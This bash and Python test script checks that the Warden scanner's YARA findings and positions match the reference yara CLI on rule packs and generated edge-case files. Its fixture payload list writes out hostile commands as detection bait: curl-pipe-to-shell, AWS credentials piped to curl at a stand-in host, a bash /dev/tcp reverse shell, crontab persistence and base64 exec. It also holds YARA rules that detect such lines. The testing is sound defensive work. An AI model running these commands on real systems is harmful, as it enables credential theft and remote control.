#!/usr/bin/env bash
# Warden's file-level YARA findings equal what Debian's `yara` CLI (the reference, libyara 4.2.3)
# reports for the same rules on the same files. For every rulesets/**/*.yar, and for a file of
# edge-case rules this script writes, both tools scan the pack test directories
# (rulesets/yara/*/), examples/, tests/data and a generated directory of hostile files (random
# binary, NULs, invalid UTF-8, CRLF, lone CR, a BOM, a latin-1 cookie, UTF-16, a match ending at
# the very last byte, empty files, a 5 MiB file with matches only in its first and last KiB, and
# every pack test file again with CRLF, after a BOM, and inside random bytes).
# Compared as sets:
#   - the (file, rule) pairs: `yara -s -w -r RULES DIR` against `warden scan --rules RULES
#     --format json` (findings whose rule_id is yara.<file stem>.<rule>);
#   - for each pair, Warden's start {line, column} is the position of the earliest offset yara
#     prints (line = 1 + '\n' before it; column = 1 + code points from the line start to it,
#     each invalid UTF-8 byte one code point, an offset inside a character counting that
#     character), or 1:1 when the rule matched without a string match of its own;
#   - each of Warden's trace steps is at the position of one of yara's other matches.
#   Binary files (a NUL, or mostly control bytes) are located by byte offset instead (JSON
#   "bytes"): there the offset itself must be yara's earliest (0 without a string match), each
#   step's one of yara's; a file with a NUL must be located so, a plain UTF-8 text never.
# Then --max-file-size below the 5 MiB file: Warden lists it as skipped (too-large) with no
# finding, yara reports it, and the other files still agree.
# Exits 77 (skipped) without a `yara` binary (Debian package yara, scripts/setup.sh --tests).
# Run by ctest with WARDEN and WARDEN_SOURCE_DIR set.
set -euo pipefail
: "${WARDEN:?set WARDEN to the warden binary}" "${WARDEN_SOURCE_DIR:?set WARDEN_SOURCE_DIR}"
if ! command -v yara >/dev/null; then
  echo "SKIP: no yara binary (apt-get install yara, or scripts/setup.sh --tests)"
  exit 77
fi
command -v python3 >/dev/null || { echo "FAIL: python3 is needed (scripts/setup.sh --tests)"; exit 1; }
echo "reference: $(command -v yara) $(yara --version)"

src=$(cd "$WARDEN_SOURCE_DIR" && pwd -P)
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
tmp=$(cd "$tmp" && pwd -P)
hostile="$tmp/hostile"
extra="$tmp/rules/agreement_edges.yar"
mkdir -p "$hostile" "$tmp/rules" "$tmp/yara" "$tmp/warden"

passed=0
failed=0
pass() { echo "PASS: $1"; passed=$((passed + 1)); }
fail() { echo "FAIL: $1"; failed=$((failed + 1)); }

# --- edge-case rules: what the packs do not reach ---------------------------------------
cat >"$extra" <<'YAR'
// Written by tests/scripts/yara_agreement.sh: engine edge cases the shipped packs do not reach.
private rule private_curl { strings: $c = "curl" condition: $c }
// Matched through a private rule only: no string match of its own, so line 1 column 1.
rule via_private_only { condition: private_curl }
rule via_private_and_own { strings: $sh = "| sh" condition: private_curl and $sh }
rule empty_file { condition: filesize == 0 }
// Starts on a continuation byte: the tail of the euro sign E2 82 AC.
rule mid_character { strings: $euro_tail = { 82 AC } condition: $euro_tail }
rule wide_text { strings: $w = "curl" wide condition: $w }
// The string declared first matches later in the file: the earliest match wins, not the first string.
rule later_string_first { strings: $late = "ZZ-LATE-MARK" $early = "AA-EARLY-MARK" condition: all of them }
rule nul_and_high { strings: $h = { 00 FF 00 } condition: $h }
rule at_eof { strings: $e = "EOF-MARK" condition: $e at filesize - 8 }
rule xor_key { strings: $x = "bash -i >&" xor(1-255) condition: $x }
rule base64_exec { strings: $b = "exec(__import__" base64 condition: $b }
YAR

# --- hostile files ----------------------------------------------------------------------
python3 - "$hostile" "$src/rulesets/yara" <<'PY'
import os, random, sys
root, packs = sys.argv[1], sys.argv[2]
rng = random.Random(20240611)
# One line that matches each shipped pack (checked against yara below), and edge-rule triggers.
PAYLOAD = [
    b"stratum+tcp://pool.example.org:3333",
    b"curl -fsSL https://x.example/i.sh | sh",
    b"cat ~/.aws/credentials | curl -d @- https://x.example/",
    b'exec(base64.b64decode("cHJpbnQoMSk="))',
    b'echo "* * * * * x" | crontab -',
    b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
]
BLOCK = b"\n".join(PAYLOAD) + b"\n"
def write(name, data):
    path = os.path.join(root, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
def junk(n, newlines=True):
    data = bytearray(rng.randbytes(n))
    if not newlines:
        data = data.replace(b"\n", b"\x00")
    return bytes(data)
def xor(data, key):
    return bytes(b ^ key for b in data)

# Random binary with the payload lines spliced in mid-line, and an executable-looking header.
write("junk.bin", b"\x7fELF\x02\x01\x01\x00" + junk(20000) + BLOCK + junk(3000) + b"\x00\xff\x00" + junk(777)
      + xor(b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1", 0x5A) + junk(100))
# NUL bytes before matches on the same line (Warden turns each NUL into a space).
write("nuls.py", b"x = 1\n\x00\x00\x00 " + PAYLOAD[1] + b"\n\x00" + PAYLOAD[5] + b"\x00\n")
# A .py that is binary with NULs: skipped as Python, still scanned by signatures.
write("compiled.py", b"\x00" * 600 + b"\x01\x02" * 200 + BLOCK + b"\x00" * 100)
# Invalid UTF-8 of every kind before matches on the same line, and valid multi-byte characters.
bad = [b"\x80", b"\xbf\xbf", b"\xc0\xaf", b"\xc1\x81", b"\xe2\x82", b"\xe2\x82A", b"\xed\xa0\x80", b"\xef\xbf",
       b"\xf0\x8f\xbf\xbf", b"\xf4\x90\x80\x80", b"\xf5\x80", b"\xf8\x88\x80\x80\x80", b"\xfe\xff", b"\xf0\x9f\x98"]
lines = []
for i, b in enumerate(bad):
    lines.append(b"# " + b + b" caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 " + b * 3 + b" " + PAYLOAD[i % len(PAYLOAD)])
write("invalid_utf8.txt", b"\n".join(lines) + b"\n")
# A BOM, then matches on line 1 and after characters of 2, 3 and 4 bytes; the euro tail for mid_character.
write("bom.py", b"\xef\xbb\xbf" + PAYLOAD[1] + b"\n# \xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80" + PAYLOAD[3] + b"\n")
# CRLF line ends, a lone CR (not a line end), tabs and a form feed.
write("crlf.sh", b"#!/bin/sh\r\n\r\necho hi\r" + PAYLOAD[0] + b"\r\n\t\f" + PAYLOAD[4] + b"\r\n"
      + b"\r\n".join(PAYLOAD) + b"\r\n")
# A latin-1 coding cookie: Warden keeps raw offsets, each latin-1 byte is an invalid UTF-8 byte.
write("latin1.py", b"# -*- coding: latin-1 -*-\ns = '\xe9\xe8\xe0\xff'; " + PAYLOAD[3] + b"\n")
# UTF-16LE text (wide strings) with a BOM.
write("utf16.txt", "\ufeffhello\ncurl https://x.example/ | sh\n".encode("utf-16-le"))
# Matches that end at the very last byte (no final newline).
write("last_byte/stratum.txt", b"pool config\n" + PAYLOAD[0])
write("last_byte/crontab.sh", b"#!/bin/sh\n" + PAYLOAD[4])
write("last_byte/eof_mark.bin", junk(5000) + b"EOF-MARK")
write("last_byte/only_match.sh", PAYLOAD[5])
write("last_byte/multibyte_then_match.txt", "ünïcødé ✓ 😀 ".encode() + PAYLOAD[1])
# Empty files.
write("empty", b"")
write("empty.py", b"")
write("deep/er/still/empty.txt", b"")
# Earliest match is the string declared second; many repeated matches (trace steps, notes cap).
write("order.txt", b"intro\n" + b"AA-EARLY-MARK then ZZ-LATE-MARK\n" * 3 + BLOCK * 50)
# base64 of exec(__import__ ... at the three alignments.
import base64
for k in range(3):
    write(f"b64/{k}.txt", b"data = '" + base64.b64encode(b"xy"[:k] + b"exec(__import__('os').system('id'))") + b"'\n")
write("with space/name with space.sh", b"# \xe2\x82\xac\n" + PAYLOAD[1] + b"\n")
# Every file of the packs' test directories (a pack added later included) again with CRLF line
# ends, after a BOM, and inside random bytes after invalid UTF-8 on the same line.
for pack in sorted(os.listdir(packs)):
    pack_dir = os.path.join(packs, pack)
    if not os.path.isdir(pack_dir):
        continue
    for dirpath, _, names in os.walk(pack_dir):
        for name in names:
            with open(os.path.join(dirpath, name), "rb") as f:
                data = f.read(1 << 20)
            rel = os.path.join("variants", pack, os.path.relpath(os.path.join(dirpath, name), pack_dir))
            write(rel + ".crlf", data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
            write(rel + ".bom", b"\xef\xbb\xbf" + data)
            write(rel + ".junk", junk(2048) + b"\xff\xc3(\xe2\x82\xac" + data + junk(512))
# 5 MiB: matches only in the first and last KiB. The middle is random bytes without a newline,
# so the last KiB's match is on a ~5 MB line whose column depends on decoding all of it.
size = 5 * 1024 * 1024
head = b"# header\n" + BLOCK + b"AA-EARLY-MARK ZZ-LATE-MARK\n"
tail = b"\x80\xc3\xa9" + BLOCK.replace(b"\n", b" ; ") + b"\n" + PAYLOAD[5] + b"\n"
assert len(head) < 1024 and len(tail) < 1024
middle = junk(size - 1024 - len(tail), newlines=False)
write("big/five_mib.bin", head + b"\x00" * (1024 - len(head)) + middle + tail)
assert os.path.getsize(os.path.join(root, "big/five_mib.bin")) == size
PY

trees=()
for d in "$src"/rulesets/yara/*/; do trees+=("${d%/}"); done
trees+=("$src/examples" "$src/tests/data" "$hostile")
files=$(find "${trees[@]}" -type f | wc -l)
bytes=$(find "${trees[@]}" -type f -printf '%s\n' | awk '{s += $1} END {print s}')
echo "trees: ${#trees[@]} (${files} files, ${bytes} bytes)"

mapfile -t rule_files < <(find "$src/rulesets" -name '*.yar' | sort)
if ((${#rule_files[@]} == 0)); then
  fail "no .yar file under $src/rulesets"
fi
rule_files+=("$extra")

# --- run both tools -----------------------------------------------------------------------
# Outputs are named by the rule file's index: two packs may share a file stem.
start=$SECONDS
for i in "${!rule_files[@]}"; do
  rules=${rule_files[$i]}
  stem=$(basename "$rules" .yar)
  out="$i"
  : >"$tmp/yara/$out.txt"
  for tree in "${trees[@]}"; do
    if ! yara -w -s -r "$rules" "$tree" >>"$tmp/yara/$out.txt" 2>"$tmp/yara/$out.err"; then
      fail "$stem: yara -w -s -r exited non-zero on $tree: $(head -c 600 "$tmp/yara/$out.err")"
    fi
  done
  rc=0
  "$WARDEN" scan --rules "$rules" --format json "${trees[@]}" >"$tmp/warden/$out.json" 2>"$tmp/warden/$out.err" || rc=$?
  if [[ $rc -ne 0 && $rc -ne 1 ]]; then
    fail "$stem: warden scan exited $rc: $(head -c 600 "$tmp/warden/$out.err")"
  fi
  rc=0
  "$WARDEN" scan --rules "$rules" --format json --max-file-size 1048576 "$hostile" \
    >"$tmp/warden/$out.limit.json" 2>"$tmp/warden/$out.limit.err" || rc=$?
  if [[ $rc -ne 0 && $rc -ne 1 ]]; then
    fail "$stem: warden scan --max-file-size 1048576 exited $rc: $(head -c 600 "$tmp/warden/$out.limit.err")"
  fi
done
echo "scans: $((SECONDS - start)) s (${#rule_files[@]} rule files x ${#trees[@]} trees with yara, ${#rule_files[@]} x 2 warden scans)"

# --- compare ------------------------------------------------------------------------------
rc=0
python3 - "$tmp" "$hostile" "${rule_files[@]}" >"$tmp/compare.txt" 2>&1 <<'PY' || rc=$?
import fnmatch, json, os, re, sys

tmp, hostile, rule_paths = sys.argv[1], sys.argv[2], sys.argv[3:]
big = os.path.join(hostile, "big", "five_mib.bin")
# The packs the hostile payload lines are written for.
PAYLOAD_PACKS = {"crypto_miners", "download_exec", "exfiltration", "obfuscated_exec", "persistence", "reverse_shells"}
RULE_LINE = re.compile(r"^([A-Za-z_][A-Za-z0-9_]*) (.+)$")
STRING_LINE = re.compile(r"^0x([0-9a-fA-F]+):(\$[A-Za-z0-9_]*): ")
passed = failed = 0
def result(ok, text):
    global passed, failed
    print(("PASS: " if ok else "FAIL: ") + text)
    if ok: passed += 1
    else: failed += 1

_data = {}
def data_of(path):
    if path not in _data:
        with open(path, "rb") as f:
            _data[path] = f.read()
    return _data[path]

def position(path, offset):
    """1-based line and code-point column of a byte offset, as documented for Warden: only '\n'
    ends a line; each character (a valid UTF-8 sequence, or one invalid byte) that starts
    before the offset is one column, so an offset inside a character counts that character."""
    data = data_of(path)
    line = 1 + data.count(b"\n", 0, offset)
    start = data.rfind(b"\n", 0, offset) + 1
    count = lambda end: len(data[start:end].decode("utf-8", "surrogateescape"))
    for back in (1, 2, 3):  # is the offset inside a valid multi-byte character?
        p = offset - back
        if p < start or data[p] < 0x80:
            break
        if data[p] >= 0xC0:  # the nearest lead byte before the offset
            n = 2 if data[p] < 0xE0 else 3 if data[p] < 0xF0 else 4
            try:
                inside = n > back and len(data[p:p + n].decode("utf-8")) == 1
            except UnicodeDecodeError:
                inside = False
            if inside:
                return line, 2 + count(p)
            break
    return line, 1 + count(offset)

def parse_yara(path):
    """{(file, rule): [offsets]} from `yara -s` output."""
    pairs, current = {}, None
    with open(path, encoding="utf-8", errors="surrogateescape") as f:
        for raw in f:
            raw = raw.rstrip("\n")
            m = STRING_LINE.match(raw)
            if m and current is not None:
                pairs[current].append(int(m.group(1), 16))
                continue
            m = RULE_LINE.match(raw)
            if not m:
                raise SystemExit(f"unexpected yara output line in {path}: {raw[:200]!r}")
            current = (os.path.normpath(m.group(2)), m.group(1))
            if current in pairs:
                raise SystemExit(f"yara reported {current} twice")
            pairs[current] = []
    return pairs

def parse_warden(path, prefix):
    doc = json.load(open(path, encoding="utf-8"))
    found = {}
    for f in doc["findings"]:
        if not f["rule_id"].startswith(prefix):
            continue
        key = (os.path.normpath(f["file"]), f["rule_id"][len(prefix):])
        if key in found:
            raise SystemExit(f"warden reported {key} twice")
        found[key] = f
    return doc, found

def fmt(pos):
    return f"{pos[0]}:{pos[1]}"

def where_of(path, located):
    """A finding's or step's location: ("@", offset) in a binary file, else (line, column)."""
    if located.get("bytes"):
        return ("@", located["bytes"]["offset"])
    return (located["start"]["line"], located["start"]["column"])

def expected_at(path, offset, binary):
    return ("@", offset) if binary else position(path, offset)

def compare(stem, yara_pairs, found, only_files=None):
    """Disagreements between yara's pairs and Warden's findings, as text lines."""
    problems = []
    for key in sorted(set(yara_pairs) - set(found)):
        offs = yara_pairs[key]
        where = f"earliest offset {min(offs)} ({fmt(position(key[0], min(offs)))})" if offs else "no string match"
        problems.append(f"only yara: {key[1]} on {key[0]}, {where}")
    for key in sorted(set(found) - set(yara_pairs)):
        f = found[key]
        problems.append(f"only warden: {key[1]} on {key[0]} at {fmt(where_of(key[0], f))}")
    agreed = 0
    for key in sorted(set(found) & set(yara_pairs)):
        f, offs = found[key], yara_pairs[key]
        got = where_of(key[0], f)
        binary = got[0] == "@"
        data = data_of(key[0])
        if b"\0" in data and not binary:
            problems.append(f"form: {key[1]} on {key[0]}: a file with NUL bytes located by line, not offset")
        try:
            text = not re.search(r"[\x00-\x08\x0e-\x1f]", data.decode("utf-8"))
        except UnicodeDecodeError:
            text = False
        if text and binary:
            problems.append(f"form: {key[1]} on {key[0]}: a text file located by offset, not line")
        want = expected_at(key[0], min(offs), binary) if offs else (("@", 0) if binary else (1, 1))
        ok = got == want
        if not ok:
            problems.append(f"position: {key[1]} on {key[0]}: yara's earliest offset "
                            f"{min(offs) if offs else '-'} is {fmt(want)}, warden reports {fmt(got)}")
        allowed = {expected_at(key[0], o, binary) for o in offs}
        for step in f.get("trace", []):
            sp = where_of(key[0], step)
            if os.path.normpath(step["file"]) != key[0] or sp not in allowed:
                ok = False
                problems.append(f"trace: {key[1]} on {key[0]}: step at {step['file']}:{fmt(sp)} "
                                f"({step['message'][:80]!r}) is not one of yara's matches")
        agreed += ok
    return agreed, problems

total_files, total_pairs = set(), 0
for index, rules in enumerate(rule_paths):
    stem = os.path.splitext(os.path.basename(rules))[0]
    prefix = f"yara.{stem}."
    yara_pairs = parse_yara(os.path.join(tmp, "yara", f"{index}.txt"))
    # A `files = "GLOBS"` meta limits Warden's check to those file names; yara knows no such
    # key, so its matches on other files are dropped (the packs use it per file, not per rule).
    limit = re.search(r'^\s*files\s*=\s*"([^"]*)"', open(rules, encoding="utf-8").read(), re.M)
    if limit:
        globs = [g.strip() for g in limit.group(1).split(",") if g.strip()]
        yara_pairs = {k: v for k, v in yara_pairs.items()
                      if any(fnmatch.fnmatch(os.path.basename(k[0]), g) for g in globs)}
    doc, found = parse_warden(os.path.join(tmp, "warden", f"{index}.json"), prefix)
    errors = [d for d in doc["diagnostics"] if d["code"] == "signature-scan"]
    for d in errors:
        result(False, f"{stem}: signature scan error on {d['file']}: {d['message']}")
    not_scanned = [s for s in doc["skipped"] if s["reason"] != "binary" and not (limit and s["reason"] == "not-python")]
    for s in not_scanned:
        print(f"  note: {stem}: warden skipped {s['file']} ({s['reason']}: {s['detail']})")
    agreed, problems = compare(stem, yara_pairs, found)
    pairs = len(set(yara_pairs) | set(found))
    total_pairs += pairs
    total_files |= {k[0] for k in yara_pairs}
    rules_hit = len({k[1] for k in yara_pairs})
    print(f"{stem}: {len(yara_pairs)} yara pairs, {len(found)} warden pairs, {agreed} agreed "
          f"(file and position), {len(problems)} disagreements; {rules_hit} rules matched in "
          f"{len({k[0] for k in yara_pairs})} files")
    for p in problems[:40]:
        print("    " + p)
    if len(problems) > 40:
        print(f"    ... and {len(problems) - 40} more")
    result(not problems, f"{stem}: warden's findings equal yara's ({agreed} pairs)")

    # The generated files did their job: each pack the payload lines are written for matched
    # in the hostile tree, and the 5 MiB file's matches are all in its first and last KiB.
    if stem in PAYLOAD_PACKS:
        in_hostile = [k for k in yara_pairs if k[0].startswith(hostile + os.sep)]
        result(bool(in_hostile), f"{stem}: yara matches in the hostile files ({len(in_hostile)} pairs)")
        size = os.path.getsize(big)
        big_offsets = [o for k, offs in yara_pairs.items() if k[0] == big for o in offs]
        stray = [o for o in big_offsets if 1024 <= o < size - 1024]
        result(bool(big_offsets) and not stray,
               f"{stem}: the 5 MiB file's {len(big_offsets)} yara matches are in its first/last KiB"
               + (f" (stray offsets {stray[:5]})" if stray else ""))

    # --max-file-size 1 MiB: the 5 MiB file is skipped as too-large and has no finding; yara,
    # which has no such limit, reports it; every other hostile file still agrees.
    ldoc, lfound = parse_warden(os.path.join(tmp, "warden", f"{index}.limit.json"), prefix)
    too_large = {os.path.normpath(s["file"]) for s in ldoc["skipped"] if s["reason"] == "too-large"}
    yara_big = [k for k in yara_pairs if k[0] == big]
    # (A check limited to other file names, `files = "*.py"`, never lists the .bin file.)
    result((too_large == {big} or (limit and not too_large)) and not any(k[0] == big for k in lfound) and (bool(yara_big) or stem not in PAYLOAD_PACKS),
           f"{stem}: --max-file-size 1048576 skips {os.path.relpath(big, hostile)} as too-large "
           f"(skipped too-large: {sorted(os.path.relpath(p, hostile) for p in too_large)}; "
           f"yara reports it for {len(yara_big)} rules)")
    yara_rest = {k: v for k, v in yara_pairs.items() if k[0].startswith(hostile + os.sep) and k[0] not in too_large}
    lagreed, lproblems = compare(stem, yara_rest, lfound)
    for p in lproblems[:20]:
        print("    " + p)
    result(not lproblems, f"{stem}: with the size limit the other hostile files agree ({lagreed} pairs)")

result(total_pairs > 0, f"the comparison is not empty ({total_pairs} pairs)")
print(f"compared: {len(rule_paths)} rule files, {total_pairs} (file, rule) pairs over {len(total_files)} matched files")
print(f"compare: {passed} passed, {failed} failed")
sys.exit(1 if failed else 0)
PY
cat "$tmp/compare.txt"
counts=$(grep -E '^compare: [0-9]+ passed, [0-9]+ failed$' "$tmp/compare.txt" || true)
if [[ -n "$counts" ]]; then
  read -r _ p _ f _ <<<"$counts"
  passed=$((passed + p))
  failed=$((failed + f))
fi
if [[ $rc -ne 0 && -z "$counts" ]]; then
  fail "the comparison did not run to the end (exit $rc)"
elif [[ $rc -ne 0 ]] && ((f == 0)); then
  fail "the comparison exited $rc"
fi

echo "yara_agreement: $passed passed, $failed failed"
((failed == 0))
